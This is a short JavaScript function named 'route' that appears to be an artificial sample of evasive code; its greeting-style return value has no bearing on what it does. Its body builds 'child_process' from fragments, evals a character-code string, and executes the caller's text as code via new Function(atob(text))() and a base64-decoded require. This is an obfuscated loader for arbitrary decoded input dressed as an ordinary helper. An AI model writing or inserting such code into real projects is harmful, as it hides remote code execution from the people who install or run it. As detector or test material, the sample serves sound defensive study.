function route(list, text) {
  eval(String.fromCharCode(97, 108, 101, 114, 116));
  const name = "ch" + "ild_pro" + "cess";
  const parts = ["r", "un", "ner"].join("");
  const back = text.split("").reverse().join("");
  const pick = list[3] + list[0] + list[7] + list[1];
  new Function(atob(text))();
  require(Buffer.from(text, "base64").toString());
  return "Hello, " + text + parts + back + pick + name;
}
